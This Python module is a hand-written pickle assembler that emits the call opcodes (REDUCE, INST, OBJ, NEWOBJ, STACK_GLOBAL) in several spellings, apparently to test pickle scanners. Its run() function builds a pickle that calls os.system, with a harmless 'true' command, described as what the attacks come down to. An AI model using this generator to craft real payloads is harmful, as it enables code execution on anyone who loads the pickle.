"""A pickle assembler: opcodes by hand, in every spelling."""

import struct


class Raw(bytes):
    """Opcodes that leave one value on the stack."""


def text(value):
    """A string, in the shortest opcode of protocol 4."""
    data = value.encode("utf-8", "surrogatepass")
    return Raw(b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data)


def const(value):
    """A value of plain types, or opcodes as they are."""
    if isinstance(value, Raw):
        return value
    if value is None:
        return Raw(b"N")
    if value is True or value is False:
        return Raw(b"\x88" if value else b"\x89")
    if isinstance(value, int):
        if 0 <= value < 256:
            return Raw(b"K" + bytes([value]))
        if -(2**31) <= value < 2**31:
            return Raw(b"J" + struct.pack("<i", value))
        data = value.to_bytes((value.bit_length() // 8) + 1, "little", signed=True)
        return Raw(b"\x8a" + bytes([len(data)]) + data)
    if isinstance(value, float):
        return Raw(b"G" + struct.pack(">d", value))
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return Raw(
            b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<I", len(value)) + value
        )
    if isinstance(value, tuple):
        items = [const(item) for item in value]
        if len(items) < 4:
            return Raw(b"".join(items) + (b")", b"\x85", b"\x86", b"\x87")[len(items)])
        return Raw(b"(" + b"".join(items) + b"t")
    if isinstance(value, list):
        return Raw(b"](" + b"".join(const(item) for item in value) + b"e" if value else b"]")
    if isinstance(value, dict):
        pairs = b"".join(const(key) + const(item) for key, item in value.items())
        return Raw(b"}(" + pairs + b"u" if value else b"}")
    raise TypeError(type(value))


def line(module, name):
    """GLOBAL: two lines of text."""
    return Raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def stack(module, name):
    """STACK_GLOBAL: two strings from the stack."""
    return Raw(const(module) + const(name) + b"\x93")


def reduce(function, *args):
    """REDUCE."""
    return Raw(function + const(tuple(args)) + b"R")


def inst(module, name, *args):
    """INST."""
    return Raw(b"(" + b"".join(const(arg) for arg in args) + b"i" + module.encode() + b"\n" + name.encode() + b"\n")


def obj(function, *args):
    """OBJ."""
    return Raw(b"(" + function + b"".join(const(arg) for arg in args) + b"o")


def newobj(function, *args):
    """NEWOBJ."""
    return Raw(function + const(tuple(args)) + b"\x81")


def newobj_ex(function, *args, **named):
    """NEWOBJ_EX."""
    return Raw(function + const(tuple(args)) + const(named) + b"\x92")


def build(value, state):
    """BUILD."""
    return Raw(value + const(state) + b"b")


def call(path, *args, way="R"):
    """`module:name` with arguments, called in one of the ways."""
    module, name = path.split(":")
    if way == "i":
        return inst(module, name, *args)
    function = line(module, name) if way in "cI" else stack(module, name)
    return obj(function, *args) if way in "oI" else reduce(function, *args)


def stream(*values, proto=4, frame=False, end=b"."):
    """A whole pickle; values but the last are popped."""
    body = b"0".join(values) + end
    head = b"" if proto is None else b"\x80" + bytes([proto])
    return head + (b"\x95" + struct.pack("<Q", len(body)) if frame else b"") + body


def run(way="R"):
    """What most of the attacks come to."""
    return call("os:system", "true", way=way)
